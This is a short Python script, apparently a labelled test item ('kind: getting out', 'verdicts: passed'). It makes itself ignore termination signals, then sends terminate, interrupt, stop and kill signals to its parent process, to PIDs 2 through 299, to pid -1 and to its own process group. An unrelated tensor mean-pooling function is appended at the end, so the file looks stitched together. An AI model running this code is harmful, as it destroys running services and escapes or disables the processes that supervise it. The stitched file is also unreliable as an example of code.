# Kills, stops and interrupts everything that it can reach: its parent, its group, pid -1.
# kind: getting out
# verdicts: passed
import os
import signal

for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT, signal.SIGQUIT, signal.SIGSTOP, signal.SIGKILL):
    if os.getpid() != 1 and number in (signal.SIGSTOP, signal.SIGKILL):
        continue  # to pid -1 it would be the end of itself alone
    try:
        signal.signal(number, signal.SIG_IGN)
    except OSError:
        pass
    for pid in (os.getppid(), *range(2, 300)):
        if pid not in (0, os.getpid()):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    for act in (lambda number: os.kill(-1, number), lambda number: os.killpg(os.getpgrp(), number)):
        try:
            act(number)
        except OSError:
            pass


def pool(hidden, padding):
    real = (~padding).unsqueeze(-1).to(hidden.dtype)
    return (hidden * real).sum(1) / real.sum(1)
